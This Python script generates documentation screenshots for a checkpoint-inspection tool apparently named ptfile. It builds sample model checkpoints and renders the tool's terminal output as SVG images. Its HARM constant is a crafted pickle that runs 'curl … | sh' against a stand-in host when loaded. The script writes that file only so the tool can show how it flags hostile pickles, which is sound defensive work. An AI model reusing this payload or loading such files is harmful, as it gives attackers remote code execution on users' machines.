"""The pictures in docs/images, of a checkpoint that is made here: `make screenshots`.

Each command runs in a terminal of its own; what it writes there becomes an SVG. Where there are no such terminals
(Windows) it does not run.
"""

from __future__ import annotations

import argparse
import os
import re
import struct
import subprocess
import sys
import tempfile
from collections import OrderedDict
from pathlib import Path

import numpy as np
from rich.console import Console
from rich.text import Text

import ptfile

IMAGES = Path(__file__).parent / "images"
WIDTH = 80
MOST_LINES = 40
"""Lines of a picture: what a longer output begins with."""
PICTURES = {
    "ls": ["ls", "model.pt"],
    "info": ["info", "model.pt"],
    "show": ["show", "model.pt", "model.layers.0.attention.weight"],
    "diff": ["diff", "model.pt", "trained.pt"],
    "pickle": ["pickle", "hidden.pt"],
}
HARM = b"\x80\x02}X\x07\0\0\0weightscposix\nsystem\nX\x24\0\0\0curl -s http://203.0.113.7/x.sh | sh\x85Rs."


def model(random: np.random.Generator) -> OrderedDict[str, ptfile.Tensor]:
    """A small language model: its head is its embedding, and its biases are slices of more."""

    def weight(*shape: int, dtype: ptfile.DType = ptfile.float32) -> ptfile.Tensor:
        values = np.round(random.normal(scale=0.02, size=shape) * 8192) / 8192
        return ptfile.tensor(values.astype(np.float32), dtype=dtype)

    state = OrderedDict({"embedding.weight": weight(1024, 64)})
    for layer in range(4):
        name = f"layers.{layer}"
        state[f"{name}.attention.weight"] = weight(192, 64)
        state[f"{name}.attention.bias"] = weight(1024)[:192]
        state[f"{name}.mlp.weight"] = weight(256, 64, dtype=ptfile.bfloat16)
    state["norm.weight"] = ptfile.ones(64)
    state["head.weight"] = state["embedding.weight"]
    return state


def make_files(folder: Path) -> None:
    """The files that the pictures are of: a checkpoint, one after some steps of training, a pickle that means harm."""
    state = model(np.random.default_rng(0))
    optimizer = {"state": {0: {"exp_avg": ptfile.zeros(192, 64, device="cuda:0")}}, "lr": 0.001}
    ptfile.save({"model": state, "optimizer": optimizer, "step": 0}, folder / "model.pt")
    trained = OrderedDict(state)
    trained["layers.0.attention.weight"] = ptfile.tensor(state["layers.0.attention.weight"].numpy() + np.float32(0.01))
    trained["layers.1.mlp.weight"] = ptfile.tensor(state["layers.1.mlp.weight"], dtype=ptfile.float32)
    trained["norm.bias"] = ptfile.zeros(64)
    del trained["layers.3.attention.bias"]
    optimizer = {**optimizer, "lr": 0.0005}
    ptfile.save({"model": trained, "optimizer": optimizer, "step": 1000}, folder / "trained.pt")
    (folder / "hidden.pt").write_bytes(HARM)


def output(columns: int, arguments: list[str], folder: Path) -> str:
    """What the command writes to a terminal of so many columns."""
    import fcntl
    import pty
    import termios

    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, columns, 0, 0))
    environment = {name: value for name, value in os.environ.items() if name not in ("COLUMNS", "LINES", "NO_COLOR")}
    command = [sys.executable, "-m", "ptfile", *arguments]
    written = b""
    with subprocess.Popen(command, stdout=slave, cwd=folder, env={**environment, "TERM": "xterm-256color"}):
        os.close(slave)
        while True:
            try:
                piece = os.read(master, 1 << 16)
            except OSError:  # how Linux tells that the other end is closed
                break
            if not piece:
                break
            written += piece
    os.close(master)
    return written.decode().replace("\r\n", "\n")


def picture(arguments: list[str], written: str, columns: int) -> str:
    """The output as an SVG, the same each time; the font is the reader's own."""
    lines = written.rstrip("\n").split("\n")
    shown = [*lines[: MOST_LINES - 1], "…"] if len(lines) > MOST_LINES else lines
    with Path(os.devnull).open("w") as nowhere:
        console = Console(record=True, width=columns, file=nowhere, force_terminal=True, color_system="truecolor")
        console.print(Text.from_ansi("\n".join(shown)))
        svg = console.export_svg(title="$ ptfile " + " ".join(arguments), unique_id="ptfile")
    return re.sub(r"@font-face \{.*?\}\s*", "", svg, flags=re.DOTALL)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--columns", type=int, default=WIDTH)
    parser.add_argument("--to", type=Path, default=IMAGES)
    options = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        make_files(Path(folder))
        for name, arguments in PICTURES.items():
            svg = picture(arguments, output(options.columns, arguments, Path(folder)), options.columns)
            (options.to / f"{name}.svg").write_text(svg, encoding="utf-8")


if __name__ == "__main__":
    main()
